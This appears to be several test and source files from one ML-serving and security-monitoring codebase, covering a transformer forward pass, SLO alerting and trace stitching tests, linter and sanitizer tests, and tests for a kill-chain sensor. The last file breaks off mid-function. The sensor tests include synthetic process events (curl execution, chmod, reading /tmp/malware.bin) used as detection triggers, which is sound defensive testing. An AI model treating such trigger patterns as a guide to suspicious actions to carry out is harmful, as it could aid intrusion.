    emb = torch.cat([angles, angles], dim=-1)  # [T, Dh]
    return emb.cos(), emb.sin()


def _rotate_half(x: torch.Tensor) -> torch.Tensor:
    half = x.shape[-1] // 2
    return torch.cat([-x[..., half:], x[..., :half]], dim=-1)


@torch.no_grad()
def forward_logits(params, cfg, token_ids) -> np.ndarray:
    """Full-sequence forward: token_ids [T] -> logits [T, vocab] f32."""
    t = lambda a: torch.from_numpy(np.asarray(a, dtype=np.float32))  # noqa: E731
    T = len(token_ids)
    H, KV, Dh = cfg.n_heads, cfg.n_kv_heads, cfg.head_dim
    rep = H // KV

    x = t(params["embed"])[torch.as_tensor(token_ids, dtype=torch.long)]
    cos, sin = _rope_tables(cfg, torch.arange(T))
    causal = torch.full((T, T), float("-inf")).triu(1)

    L = params["layers"]
    for l in range(cfg.n_layers):
        h = _rms_norm(x, t(L["attn_norm"][l]), cfg.rms_eps)
        q = (h @ t(L["wq"][l])).view(T, H, Dh)
        k = (h @ t(L["wk"][l])).view(T, KV, Dh)
        v = (h @ t(L["wv"][l])).view(T, KV, Dh)
        q = q * cos[:, None, :] + _rotate_half(q) * sin[:, None, :]
        k = k * cos[:, None, :] + _rotate_half(k) * sin[:, None, :]
        # GQA: each KV head serves `rep` consecutive query heads
        k = k.repeat_interleave(rep, dim=1)  # [T, H, Dh]
        v = v.repeat_interleave(rep, dim=1)
        scores = torch.einsum("thd,shd->hts", q, k) / math.sqrt(Dh)
        probs = torch.softmax(scores + causal[None], dim=-1)
        attn = torch.einsum("hts,shd->thd", probs, v).reshape(T, H * Dh)
        x = x + attn @ t(L["wo"][l])
        h2 = _rms_norm(x, t(L["mlp_norm"][l]), cfg.rms_eps)
        g = torch.nn.functional.silu(h2 @ t(L["w_gate"][l]))
        x = x + (g * (h2 @ t(L["w_up"][l]))) @ t(L["w_down"][l])

    x = _rms_norm(x, t(params["final_norm"]), cfg.rms_eps)
    head = t(params["lm_head"]) if "lm_head" in params else t(params["embed"]).T
    return (x @ head).numpy()
