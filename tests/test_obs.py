"""Fleet observability plane unit tests.

Wire-level coverage (federated /fleet/metrics through the exposition
validator, stitched /fleet/debug/trace, the chaos drill's burn-rate
alert) lives in tests/test_fleet.py and tests/test_trace.py; this file
covers the pure pieces:

* clock-skew normalization — replica spans recorded ±50 ms off still
  nest under router.route after stitching, and the hop offset recovers
  the injected skew;
* the SLO engine — burn math for all three kinds, multi-window AND
  semantics, fire/resolve transitions, gauges and the alerts document;
* ``load_slos`` — the --slo / CHRONOS_SLO value grammar;
* the perf-history ledger — methodology-keyed trend comparison, the
  >10% regression gate (including the --strict CLI exit code).
"""
import json
import os
import subprocess
import sys

import pytest

from chronos_trn.obs.slo import DEFAULT_SLOS, SLOEngine, SLOSpec, load_slos
from chronos_trn.obs.stitch import hop_offset, stitch_spans
from chronos_trn.utils.metrics import METRIC_FAMILIES, Metrics

pytestmark = pytest.mark.obs

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(REPO, "scripts"))
import perf_ledger  # noqa: E402


# ---------------------------------------------------------------------------
# stitching: clock-skew normalization
# ---------------------------------------------------------------------------
def _span(span_id, name, wall_start, duration_s, parent_id=None,
          trace_id="t" * 32):
    return {
        "trace_id": trace_id, "span_id": span_id, "parent_id": parent_id,
        "name": name, "start": wall_start - 500.0, "end":
        wall_start - 500.0 + duration_s, "duration_s": duration_s,
        "wall_start": wall_start, "attrs": {},
    }


def test_hop_offset_zero_when_already_nested():
    p = _span("p", "router.route", 1000.0, 0.5)
    c = _span("c", "server.generate", 1000.1, 0.3, parent_id="p")
    assert hop_offset(p, c) == 0.0


def test_hop_offset_centers_shorter_child():
    p = _span("p", "router.route", 1000.0, 0.5)
    c = _span("c", "server.generate", 999.975, 0.45, parent_id="p")
    # centering splits the 50 ms slack evenly: offset recovers +50 ms
    assert hop_offset(p, c) == pytest.approx(0.05)


def test_hop_offset_aligns_starts_for_longer_child():
    # replica kept decoding past the router's timeout: child > parent
    p = _span("p", "router.route", 1000.0, 0.2)
    c = _span("c", "server.generate", 1003.0, 0.4, parent_id="p")
    assert hop_offset(p, c) == pytest.approx(-3.0)


@pytest.mark.parametrize("skew_ms", [50.0, -50.0])
def test_stitch_normalizes_replica_clock_skew(skew_ms):
    """Replica spans recorded on a clock ±50 ms off the router's must,
    after stitching, nest inside router.route — and the whole replica
    subtree (server.generate AND its sched child) shifts together."""
    skew = skew_ms / 1000.0
    route = _span("aaaa", "router.route", 1000.0, 0.5)
    # true intervals: generate [1000.025, 1000.475], decode inside it —
    # recorded on the replica's clock, i.e. shifted by -skew
    gen = _span("bbbb", "server.generate", 1000.025 - skew, 0.45,
                parent_id="aaaa")
    dec = _span("cccc", "sched.decode_step", 1000.100 - skew, 0.2,
                parent_id="bbbb")
    doc = stitch_spans([route], {"r9": [gen, dec]})
    assert doc["backends"] == ["r9"]
    assert doc["hops"]["r9"] == pytest.approx(skew, abs=1e-9)
    by_id = {s["span_id"]: s for s in doc["spans"]}
    g, d = by_id["bbbb"], by_id["cccc"]
    # nesting restored on the router's clock
    assert g["wall_start"] >= 1000.0
    assert g["wall_start"] + g["duration_s"] <= 1000.5 + 1e-9
    assert d["wall_start"] >= g["wall_start"]
    # the subtree moved rigidly (one offset per hop, not per span)
    assert d["wall_start"] - g["wall_start"] == pytest.approx(0.075)
    # provenance survives the merge
    assert g["attrs"]["backend"] == "r9"
    assert g["attrs"]["clock_skew_s"] == pytest.approx(skew, abs=1e-6)
    # monotonic stamps were re-anchored consistently with wall_start
    assert g["end"] - g["start"] == pytest.approx(g["duration_s"])
    # merged timeline is wall-ordered
    walls = [s["wall_start"] for s in doc["spans"]]
    assert walls == sorted(walls)


def test_stitch_falls_back_to_wall_hint_without_link_pair():
    # ring rolled over: the fetched spans' parents are gone — the
    # fetch-time wall delta is the only skew estimate left
    local = [_span("aaaa", "router.route", 1000.0, 0.5)]
    orphan = _span("dddd", "sched.decode_step", 900.0, 0.1,
                   parent_id="gone")
    doc = stitch_spans(local, {"rZ": [orphan]}, wall_hints={"rZ": 99.5})
    assert doc["hops"]["rZ"] == pytest.approx(99.5)
    fetched = next(s for s in doc["spans"] if s["span_id"] == "dddd")
    assert fetched["wall_start"] == pytest.approx(999.5)


def test_stitch_dedupes_shared_ring_spans():
    # in-process replica scrapes back the router's own spans verbatim:
    # pure duplicates merge away and the hop reads zero skew
    route = _span("aaaa", "router.route", 1000.0, 0.5)
    gen = _span("bbbb", "server.generate", 1000.1, 0.3, parent_id="aaaa")
    doc = stitch_spans([route, gen], {"r0": [dict(route), dict(gen)]})
    assert len(doc["spans"]) == 2
    assert doc["hops"]["r0"] == 0.0
    # local spans stay untagged (they are the router's own)
    assert "backend" not in doc["spans"][0]["attrs"]


# ---------------------------------------------------------------------------
# SLO engine
# ---------------------------------------------------------------------------
class _Clock:
    def __init__(self, t=1000.0):
        self.t = t

    def __call__(self):
        return self.t


def _ratio_spec(objective=0.05, threshold=1.0):
    return SLOSpec(name="spill_rate", kind="ratio", objective=objective,
                   bad="bad_total", total="req_total",
                   windows=(5.0, 60.0), burn_threshold=threshold)


def test_slo_ratio_burn_fires_only_when_both_windows_burn():
    clk = _Clock(1000.0)
    m = Metrics(clock=clk)
    eng = SLOEngine(specs=(_ratio_spec(),), metrics=m)
    # healthy hour: 1% bad — burn 0.2, quiet
    for i in range(50):
        clk.t = 1000.0 + i
        m.inc("req_total", 2)
        if i % 25 == 0:
            m.inc("bad_total")
    clk.t = 1050.0
    (row,) = eng.evaluate()
    assert not row["firing"]
    assert row["burn"]["60s"] == pytest.approx(0.4, rel=0.2)
    # a storm confined to the last 5 s: the SHORT window burns hot but
    # the long window still amortizes it — multi-window AND keeps the
    # transient from paging until it sustains
    m.inc("req_total", 5)
    m.inc("bad_total", 5)
    clk.t = 1052.0
    (row,) = eng.evaluate()
    assert row["burn"]["5s"] > 1.0
    if not row["firing"]:  # 60s window may or may not have crossed
        assert row["burn"]["60s"] != row["burn"]["5s"]
    # sustained storm: every request bad — both windows burn, alert fires
    for i in range(60):
        clk.t = 1052.0 + i
        m.inc("req_total", 2)
        m.inc("bad_total", 2)
    clk.t = 1112.0
    (row,) = eng.evaluate()
    assert row["firing"]
    assert all(b > 1.0 for b in row["burn"].values())
    snap = m.snapshot()
    assert snap["slo_alerts_total"] == 1  # fired exactly once
    assert snap['slo_alert_firing{slo="spill_rate"}'] == 1.0
    # recovery: traffic goes clean, burn decays, the alert resolves
    for i in range(70):
        clk.t = 1112.0 + i
        m.inc("req_total", 2)
    clk.t = 1182.0
    (row,) = eng.evaluate()
    assert not row["firing"]
    assert snap["slo_alerts_total"] == 1  # resolve is not a re-fire
    assert m.snapshot()['slo_alert_firing{slo="spill_rate"}'] == 0.0


def test_slo_ratio_without_total_compares_rate_directly():
    clk = _Clock(1000.0)
    m = Metrics(clock=clk)
    spec = SLOSpec(name="stalls", kind="ratio", objective=0.5,
                   bad="watchdog_stalls", windows=(5.0, 60.0))
    eng = SLOEngine(specs=(spec,), metrics=m)
    for i in range(10):
        clk.t = 1000.0 + i
        m.inc("watchdog_stalls", 2)  # 2 stalls/s vs 0.5/s objective
    clk.t = 1010.0
    (row,) = eng.evaluate()
    assert row["firing"] and row["value"] == pytest.approx(2.0, rel=0.2)


def test_slo_good_ratio_burns_on_complement():
    clk = _Clock(1000.0)
    m = Metrics(clock=clk)
    spec = SLOSpec(name="affinity", kind="good_ratio", objective=0.10,
                   good="hits", total="routed", windows=(5.0, 60.0))
    eng = SLOEngine(specs=(spec,), metrics=m)
    # no traffic: healthy by definition (nothing is being burned)
    (row,) = eng.evaluate()
    assert not row["firing"] and row["value"] == 1.0
    # 50% hit rate, floor 10%: complement 0.5 vs budget 0.9 — quiet
    clk.t = 1001.0
    m.inc("routed", 10)
    m.inc("hits", 5)
    clk.t = 1002.0
    (row,) = eng.evaluate()
    assert not row["firing"]
    assert row["burn"]["5s"] == pytest.approx(0.5 / 0.9, rel=0.01)
    # hit rate collapses to zero: burn 1/0.9 > 1 in both windows
    clk.t = 1003.0
    m.inc("routed", 50)
    clk.t = 1004.0
    (row,) = eng.evaluate()
    assert row["firing"]


def test_slo_p99_spec_reads_histogram_tail():
    m = Metrics()
    spec = SLOSpec(name="p99_ttfv", kind="p99", objective=2.0,
                   metric="route_s")
    eng = SLOEngine(specs=(spec,), metrics=m)
    # no observations: NaN percentile must read as zero burn, not fire
    (row,) = eng.evaluate()
    assert not row["firing"] and row["value"] == 0.0
    for _ in range(90):
        m.observe("route_s", 0.01)
    for _ in range(10):
        m.observe("route_s", 3.0)
    (row,) = eng.evaluate()
    assert row["firing"]
    assert row["value"] == pytest.approx(3.0, rel=0.05)
    assert row["burn"]["5s"] == row["burn"]["60s"]  # documented: shared


def test_slo_summary_lines():
    assert SLOEngine.summary([]) == "SLO: no objectives configured"
    rows = [{"slo": "a", "firing": False, "burn": {}},
            {"slo": "b", "firing": False, "burn": {}}]
    assert "all nominal (2 objectives" in SLOEngine.summary(rows)
    rows[1] = {"slo": "b", "firing": True, "burn": {"5s": 3.2, "60s": 2.0}}
    s = SLOEngine.summary(rows)
    assert "1/2 firing" in s and "b (burn 3.2x)" in s


def test_slo_alerts_document_shape():
    m = Metrics()
    eng = SLOEngine(specs=(_ratio_spec(),), metrics=m)
    doc = eng.alerts()
    assert doc["firing"] == []
    assert doc["slos"][0]["slo"] == "spill_rate"
    assert doc["summary"].startswith("SLO:")


def test_slo_spec_validation():
    with pytest.raises(ValueError):
        SLOSpec(name="x", kind="nope", objective=0.5)
    with pytest.raises(ValueError):
        SLOSpec(name="x", kind="ratio", objective=0.0)
    with pytest.raises(ValueError):
        SLOSpec(name="x", kind="good_ratio", objective=1.5)


def test_default_slos_read_catalogued_families():
    # every family a default SLO reads must exist in the catalogue —
    # a renamed counter would otherwise silently zero the burn (the
    # CHR008 story, asserted here for the spec side of the read)
    for spec in DEFAULT_SLOS:
        for fam in (spec.bad, spec.good, spec.total, spec.metric):
            if fam:
                assert fam in METRIC_FAMILIES, (spec.name, fam)


def test_load_slos_value_grammar(tmp_path):
    assert load_slos(None) is None
    assert load_slos("0") is None
    assert load_slos("off") is None
    assert load_slos("1") == DEFAULT_SLOS
    assert load_slos("default") == DEFAULT_SLOS
    assert load_slos("") == DEFAULT_SLOS
    p = tmp_path / "slos.json"
    p.write_text(json.dumps([{
        "name": "custom", "kind": "ratio", "objective": 0.2,
        "bad": "errors_total", "windows": [10, 120],
    }]))
    (spec,) = load_slos(str(p))
    assert spec.name == "custom" and spec.windows == (10.0, 120.0)


# ---------------------------------------------------------------------------
# perf-history ledger
# ---------------------------------------------------------------------------
_DETAIL = {
    "config": "tiny", "platform": "cpu", "quant": "int8", "batch": 8,
    "chunk": 16, "path": "fused", "model_format_json": False,
    "model_stop_ids_pinned": True, "model_device_dfa": True,
    "pipeline_backend": "heuristic", "fleet_backend": "heuristic",
    "roofline_frac": 0.50, "fleet_verdicts_per_s": 900.0,
    "fleet_p99_ttfv_s": 0.010, "prefixcache_hit_rate": 0.80,
    "spec_on_tokens_per_step": 2.5, "model_events_per_s": 40.0,
}


def test_ledger_appends_and_gates_injected_regression(tmp_path):
    path = str(tmp_path / "PERF_HISTORY.jsonl")
    assert perf_ledger.record_run(path, "decode_tiny", 100.0, _DETAIL) == []
    # injected >10% roofline_frac regression, same methodology
    worse = dict(_DETAIL, roofline_frac=0.40)
    regs = perf_ledger.record_run(path, "decode_tiny", 100.0, worse)
    assert len(regs) == 1 and "roofline_frac" in regs[0]
    # the regressed run is still on the record (history, not gatekeeping)
    assert len(perf_ledger.load_ledger(path)) == 2


def test_ledger_lower_is_better_direction(tmp_path):
    path = str(tmp_path / "ledger.jsonl")
    perf_ledger.record_run(path, "m", 100.0, _DETAIL)
    worse = dict(_DETAIL, fleet_p99_ttfv_s=0.020)  # tail doubled
    regs = perf_ledger.record_run(path, "m", 100.0, worse)
    assert any("fleet_p99_ttfv_s" in r for r in regs)
    # headline tokens/s sliding is caught too (the `value` itself)
    regs = perf_ledger.record_run(path, "m", 50.0, worse)
    assert any("tokens_per_s" in r for r in regs)


def test_ledger_within_band_and_improvement_are_clean(tmp_path):
    path = str(tmp_path / "ledger.jsonl")
    perf_ledger.record_run(path, "m", 100.0, _DETAIL)
    near = dict(_DETAIL, roofline_frac=0.46)  # -8%: inside the band
    assert perf_ledger.record_run(path, "m", 95.0, near) == []
    better = dict(_DETAIL, roofline_frac=0.60, fleet_p99_ttfv_s=0.005)
    assert perf_ledger.record_run(path, "m", 120.0, better) == []


def test_ledger_methodology_mismatch_is_never_compared(tmp_path):
    # a bf16 run must not gate an int8 run: the roofline moved by design
    path = str(tmp_path / "ledger.jsonl")
    perf_ledger.record_run(path, "m", 100.0, _DETAIL)
    bf16 = dict(_DETAIL, quant="none", roofline_frac=0.20)
    assert perf_ledger.record_run(path, "m", 40.0, bf16) == []
    # ...but the NEXT bf16 run compares against the bf16 row, skipping
    # the interleaved int8 one
    perf_ledger.record_run(path, "m", 100.0, _DETAIL)
    regs = perf_ledger.record_run(
        path, "m", 40.0, dict(bf16, roofline_frac=0.10))
    assert len(regs) == 1 and "0.2 -> 0.1" in regs[0]


def test_ledger_cli_strict_exits_nonzero_on_regression(tmp_path):
    ledger = str(tmp_path / "PERF_HISTORY.jsonl")
    detail = tmp_path / "bench_detail.json"
    env = dict(os.environ, PYTHONPATH=REPO)

    def run(doc, *extra):
        detail.write_text(json.dumps(doc))
        return subprocess.run(
            [sys.executable, os.path.join(REPO, "scripts", "perf_ledger.py"),
             "--ledger", ledger, "--detail", str(detail), *extra],
            capture_output=True, text=True, env=env, timeout=60)

    base = {"metric": "decode_tiny", "value": 100.0, "detail": _DETAIL}
    p = run(base, "--strict")
    assert p.returncode == 0, p.stderr
    # >10% injected regression: --strict run fails LOUDLY, non-zero
    regressed = {"metric": "decode_tiny", "value": 100.0,
                 "detail": dict(_DETAIL, roofline_frac=0.40)}
    p = run(regressed, "--strict")
    assert p.returncode == 1
    assert "roofline_frac" in p.stderr and "REGRESSION" in p.stderr
    # without --strict a further slide is reported but does not gate
    worse = {"metric": "decode_tiny", "value": 100.0,
             "detail": dict(_DETAIL, roofline_frac=0.30)}
    p = run(worse)
    assert p.returncode == 0
    assert "REGRESSION" in p.stdout
    # --check re-evaluates the tail of the ledger without appending
    n = len(perf_ledger.load_ledger(ledger))
    p = run(regressed, "--check", "--strict")
    assert p.returncode == 1
    assert len(perf_ledger.load_ledger(ledger)) == n
