"""Native sensor data plane: codec/ring/classifier — native lib vs
Python fallback must agree (the fallback is the spec)."""
import subprocess
import sys

import pytest

from chronos_trn.config import SensorConfig
from chronos_trn.sensor import native
from chronos_trn.sensor.events import EXEC, OPEN, RECORD_SIZE, Event


def _records():
    evs = [
        Event(1, "bash", "/usr/bin/curl", EXEC),
        Event(2, "python3", "/usr/bin/curl", EXEC),   # ignored comm
        Event(3, "logrotate", "/var/log/syslog", OPEN),
        Event(4, "bash", "/usr/bin/chmod", EXEC),
        Event(5, "cat", "/tmp/malware.bin", OPEN),
    ]
    return b"".join(e.pack() for e in evs)


def test_classify_batch_semantics():
    cfg = SensorConfig()
    classes = native.classify_batch(
        _records(), cfg.ignore_comms, cfg.trigger_keywords
    )
    assert classes == [
        native.TRIGGER,   # curl
        native.IGNORE,    # python comm
        native.BUFFER,    # benign open
        native.TRIGGER,   # chmod
        native.TRIGGER,   # cat + /tmp path keyword 'cat'
    ]


def test_native_matches_python_fallback():
    if not native.native_available():
        pytest.skip("native lib not built")
    cfg = SensorConfig()
    recs = _records()
    got = native.classify_batch(recs, cfg.ignore_comms, cfg.trigger_keywords)
    # force the python path
    lib, native._LIB = native._LIB, None
    try:
        want = native.classify_batch(recs, cfg.ignore_comms, cfg.trigger_keywords)
    finally:
        native._LIB = lib
    assert got == want


def test_event_ring_roundtrip_and_overflow():
    ring = native.EventRing(capacity=8)
    rec = Event(7, "bash", "/usr/bin/curl", EXEC).pack()
    cap_pushed = 0
    for _ in range(20):
        cap_pushed += ring.push(rec)
    assert cap_pushed >= 8           # at least capacity accepted
    assert ring.dropped >= 20 - cap_pushed - 1
    out = ring.pop(max_records=64)
    assert len(out) == cap_pushed
    assert out[0] == rec and len(out[0]) == RECORD_SIZE
    # drained
    assert ring.pop() == []
    ring.close()


def test_normalize_batch_roundtrip():
    recs = _records()
    normed = native.normalize_batch(recs)
    assert len(normed) == len(recs)
    # already-normalized records are a fixed point
    assert native.normalize_batch(normed) == normed
    # original bytes object untouched (native path must copy)
    assert recs == _records()


def test_monitor_ingest_batch_matches_on_event():
    from chronos_trn.sensor.client import KillChainMonitor

    class Recorder:
        def __init__(self):
            self.calls = []
        def analyze(self, history):
            self.calls.append(list(history))
            return {"risk_score": 8, "verdict": "MALICIOUS", "reason": "r"}

    cfg = SensorConfig()
    recs = _records()
    a, b = Recorder(), Recorder()
    m1 = KillChainMonitor(cfg, client=a, alert_fn=lambda s: None)
    m1.ingest_batch(recs)
    m2 = KillChainMonitor(cfg, client=b, alert_fn=lambda s: None)
    from chronos_trn.sensor.events import unpack_stream
    for ev in unpack_stream(recs):
        m2.on_event(ev)
    assert a.calls == b.calls


def test_event_ring_capacity_rounds_up_both_paths():
    ring = native.EventRing(capacity=1000)
    assert ring.capacity == 1024
    ring.close()
