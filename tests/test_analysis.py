"""chronoslint + CHRONOS_SANITIZE acceptance tests.

Three layers, mirroring the subsystem:

* rule fixtures — every CHR rule fires on a known-bad snippet and stays
  quiet on the fixed form (the ISSUE's "demonstrably fires" criterion);
* sanitizer — each injected corruption class (double-free,
  use-after-free, leak-on-finish) is caught AND attributed in both
  cache layouts, the clean path is silent, and a sanitized end-to-end
  scheduler run is byte-identical to an unsanitized one;
* interleave harness — seeded schedules over the decode/rebuild/
  watchdog paths finish with no deadlock, lost request, or invariant
  violation (tier-1 runs a small seed batch; the 100-seed acceptance
  sweep is the slow test / the CLI).

Plus the keystone: chronoslint over the shipped ``chronos_trn/`` tree
reports ZERO unsuppressed findings and every suppression carries a
reason.
"""
import dataclasses
import os
import textwrap

import pytest

from chronos_trn.analysis.lint import Finding, lint_source, run_lint
from chronos_trn.analysis.sanitize import (
    AllocatorSanitizer,
    SanitizerError,
    maybe_wrap_allocator,
    sanitize_enabled,
)
from chronos_trn.config import CacheConfig

pytestmark = pytest.mark.analysis

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
PKG = os.path.join(REPO, "chronos_trn")


def codes(findings, suppressed=False):
    return [f.rule for f in findings if f.suppressed == suppressed]


def lint_snippet(src, path="chronos_trn/serving/sample.py", select=None):
    findings = lint_source(textwrap.dedent(src), path)
    if select:
        findings = [f for f in findings if f.rule == select]
    return findings


# ---------------------------------------------------------------------------
# rule fixtures: bad fires, fixed is quiet
# ---------------------------------------------------------------------------
def test_chr001_blocking_under_lock_fires_and_fixed_is_quiet():
    bad = """
    import time
    def heal(self):
        with self._heal_lock:
            time.sleep(1.0)
    """
    assert codes(lint_snippet(bad, select="CHR001")) == ["CHR001"]
    fixed = """
    import time
    def heal(self):
        with self._heal_lock:
            snapshot = list(self._slots)
        time.sleep(1.0)
    """
    assert lint_snippet(fixed, select="CHR001") == []


def test_chr001_engine_dispatch_under_lock_fires():
    bad = """
    def heal(self):
        with self._heal_lock:
            self.engine.rebuild("stall")
    """
    assert codes(lint_snippet(bad, select="CHR001")) == ["CHR001"]


def test_chr002_metric_grammar_fires_and_fixed_is_quiet():
    bad = """
    METRICS.inc("verdicts-total")
    METRICS.observe("lat_s", 1.0, labels={"bad-label": "x"})
    """
    assert codes(lint_snippet(bad, select="CHR002")) == ["CHR002", "CHR002"]
    fixed = """
    METRICS.inc("verdicts_total")
    METRICS.observe("lat_s", 1.0, labels={"good_label": "x"})
    """
    assert lint_snippet(fixed, select="CHR002") == []


def test_chr003_unregistered_env_key_fires_registered_is_quiet():
    bad = 'import os\nv = os.environ.get("CHRONOS_TYPO_KNOB")\n'
    found = lint_snippet(bad, select="CHR003")
    assert codes(found) == ["CHR003"]
    assert "CHRONOS_TYPO_KNOB" in found[0].message
    ok = 'import os\nv = os.environ.get("CHRONOS_SANITIZE")\n'
    assert lint_snippet(ok, select="CHR003") == []


def test_chr003_docstring_mentions_are_exempt():
    src = '"""Set CHRONOS_NOT_A_REAL_KEY to enable frobnication."""\n'
    assert lint_snippet(src, select="CHR003") == []


def test_chr004_staticness_fires_in_jitted_fn_and_fixed_is_quiet():
    bad = """
    import functools, jax
    @functools.partial(jax.jit, donate_argnums=(1,))
    def _step(params, tokens: jax.Array):
        if tokens[0] > 0:
            return tokens.item()
        return int(tokens)
    """
    got = codes(lint_snippet(bad, select="CHR004"))
    assert got.count("CHR004") == 3  # data-dep if, .item(), int()
    fixed = """
    import functools, jax
    import jax.numpy as jnp
    @functools.partial(jax.jit, donate_argnums=(1,))
    def _step(params, tokens: jax.Array, length=None):
        if length is None:  # trace-time graph-shape branch: allowed
            length = tokens.shape[0]
        return jnp.where(tokens[0] > 0, tokens, -tokens)
    """
    assert lint_snippet(fixed, select="CHR004") == []


def test_chr004_scoped_to_aot_paths_only():
    host_side = """
    def admission(self, tokens):
        if tokens[0] > 0:
            return int(tokens[0])
    """
    # unannotated, undecorated, not in ops/ or model.py: out of scope
    assert lint_snippet(host_side, select="CHR004") == []


def test_chr005_swallowed_exception_fires_and_logged_is_quiet():
    bad = """
    try:
        engine.release(seq_id)
    except Exception:
        pass
    """
    assert codes(lint_snippet(bad, select="CHR005")) == ["CHR005"]
    fixed = """
    try:
        engine.release(seq_id)
    except Exception as e:
        log_event(LOG, "release_failed", error=str(e))
    """
    assert lint_snippet(fixed, select="CHR005") == []


def test_chr005_bare_except_fires_everywhere():
    bad = "try:\n    x()\nexcept:\n    pass\n"
    # even outside serving hot paths (it eats KeyboardInterrupt)
    found = lint_snippet(bad, path="chronos_trn/sensor/sample.py",
                         select="CHR005")
    assert codes(found) == ["CHR005"]


def test_chr006_manual_span_fires_with_form_is_quiet():
    bad = """
    span = TRACER.start_span("sensor.post")
    do_work()
    span.finish()
    """
    assert codes(lint_snippet(bad, select="CHR006")) == ["CHR006"]
    fixed = """
    with TRACER.start_span("sensor.post") as span:
        do_work()
    """
    assert lint_snippet(fixed, select="CHR006") == []


def test_chr007_dispatch_under_router_lock_fires_and_fixed_is_quiet():
    # post_generate is a router-tier dispatch attr CHR001 does NOT know
    # about — the bad form must fire CHR007 (and only CHR007)
    bad = """
    def route(self, payload):
        with self._lock:
            cands = [b for b in self._backends.values() if b.up]
            return cands[0].post_generate(payload)
    """
    found = lint_snippet(bad, path="chronos_trn/fleet/sample.py")
    assert codes(found) == ["CHR007"]
    # plan under the lock, dispatch outside: quiet
    fixed = """
    def route(self, payload):
        with self._lock:
            cands = [b for b in self._backends.values() if b.up]
        return cands[0].post_generate(payload)
    """
    assert lint_snippet(fixed, path="chronos_trn/fleet/sample.py",
                        select="CHR007") == []


def test_chr007_scoped_to_fleet_only_chr001_set_still_covered():
    # the same dispatch outside fleet/ is CHR007-quiet (CHR001 owns the
    # scheduler-tier attrs there)...
    src = """
    def route(self, payload):
        with self._lock:
            return self._backend.post_generate(payload)
    """
    assert lint_snippet(src, path="chronos_trn/serving/sample.py",
                        select="CHR007") == []
    # ...and in fleet/, CHR001's blocking set (probe sleep etc.) is part
    # of CHR007's surface too
    probe = """
    import time
    def probe_once(self):
        with self._lock:
            time.sleep(0.1)
    """
    found = lint_snippet(probe, path="chronos_trn/fleet/router.py",
                         select="CHR007")
    assert codes(found) == ["CHR007"]


def test_chr008_uncatalogued_family_fires_and_registered_is_quiet():
    bad = """
    METRICS.inc("router_spilovers_total")
    """
    found = lint_snippet(bad, select="CHR008")
    assert codes(found) == ["CHR008"]
    assert "router_spilovers_total" in found[0].message
    fixed = """
    METRICS.inc("router_spillovers_total")
    """
    assert lint_snippet(fixed, select="CHR008") == []


def test_chr008_dynamic_names_are_exempt():
    # f-string family names (resilience.py's breaker-state counters)
    # cannot be checked statically and must not fire
    src = """
    METRICS.inc(f"{self._name}_{new_state}_total")
    """
    assert lint_snippet(src, select="CHR008") == []


def test_chr009_timeoutless_dispatch_fires_and_fixed_is_quiet():
    bad = """
    import urllib.request
    def probe(self, url, payload):
        urllib.request.urlopen(url)
        self.transport.post_json(url, payload)
    """
    found = lint_snippet(bad, path="chronos_trn/fleet/sample.py")
    assert codes(found) == ["CHR009", "CHR009"]
    assert "urlopen" in found[0].message
    assert "timeout_s" in found[1].message
    fixed = """
    import urllib.request
    def probe(self, url, payload):
        urllib.request.urlopen(url, timeout=2.0)
        self.transport.post_json(url, payload, 5.0)
        self.transport.post_json(url, payload, timeout_s=5.0)
    """
    assert lint_snippet(fixed, path="chronos_trn/fleet/sample.py",
                        select="CHR009") == []


def test_chr009_requests_verbs_need_timeout_but_bare_get_is_exempt():
    bad = """
    def fetch(self, url):
        return _requests.post(url, json={})
    """
    found = lint_snippet(bad, path="chronos_trn/sensor/sample.py",
                         select="CHR009")
    assert codes(found) == ["CHR009"]
    # bare .get attr calls (queue.Queue.get in the router's hedging
    # path, dict.get everywhere) must NOT be mistaken for requests.get
    quiet = """
    def wait(self, q, d):
        first = q.get(timeout=1.0)
        other = q.get()
        return d.get("key"), first, other
    """
    assert lint_snippet(quiet, path="chronos_trn/fleet/sample.py",
                        select="CHR009") == []


def test_chr009_scoped_to_fleet_and_sensor_only():
    src = """
    import urllib.request
    def probe(self, url):
        urllib.request.urlopen(url)
    """
    assert lint_snippet(src, path="chronos_trn/serving/sample.py",
                        select="CHR009") == []


def test_chr010_device_touch_in_spec_fires_and_fixed_is_quiet():
    bad = """
    import jax.numpy as jnp
    def propose(self, vals):
        best = vals.argmax().item()
        return [best]
    """
    found = lint_snippet(bad, path="chronos_trn/spec/sample.py",
                         select="CHR010")
    assert codes(found) == ["CHR010", "CHR010"]   # the import + .item()
    assert "host-only" in found[0].message
    assert ".item()" in found[1].message
    fixed = """
    import numpy as np
    def propose(self, vals):
        best = int(np.argmax(np.asarray(vals)))
        return [best]
    """
    assert lint_snippet(fixed, path="chronos_trn/spec/sample.py",
                        select="CHR010") == []


def test_chr010_scoped_to_spec_only():
    # the SAME sync patterns are legitimate inside the engine, where the
    # dispatch cost is batched and measured — only the draft hot path is
    # host-only
    src = """
    import jax
    def verify(self, x):
        jax.device_get(x)
        return x.item()
    """
    assert lint_snippet(src, path="chronos_trn/serving/sample.py",
                        select="CHR010") == []
    found = lint_snippet(src, path="chronos_trn/spec/sample.py",
                         select="CHR010")
    assert codes(found) == ["CHR010", "CHR010", "CHR010"]


# ---------------------------------------------------------------------------
# suppression semantics
# ---------------------------------------------------------------------------
def test_reasoned_suppression_suppresses():
    src = """
    try:
        x()
    except Exception:
        pass  # chronoslint: disable=CHR005(fixture: documented waiver)
    """
    found = lint_snippet(src, select="CHR005")
    assert len(found) == 1 and found[0].suppressed
    assert found[0].suppress_reason == "fixture: documented waiver"


def test_reasonless_suppression_does_not_suppress_and_is_reported():
    src = """
    try:
        x()
    except Exception:
        pass  # chronoslint: disable=CHR005
    """
    found = lint_snippet(src)
    assert "CHR005" in codes(found)  # still active
    assert "CHR000" in codes(found)  # and the naked waiver is flagged


def test_suppression_only_covers_its_rule():
    src = """
    try:
        x()
    except:
        pass  # chronoslint: disable=CHR001(wrong rule for this site)
    """
    assert "CHR005" in codes(lint_snippet(src))


def test_syntax_error_becomes_chr000_finding():
    found = lint_source("def broken(:\n", "x.py")
    assert codes(found) == ["CHR000"]


# ---------------------------------------------------------------------------
# CHR011 interprocedural taint: bad fires with a witness, fixed is quiet
# ---------------------------------------------------------------------------
def test_chr011_taint_through_helper_fires_and_sanitized_is_quiet():
    bad = """
    def build(ev):
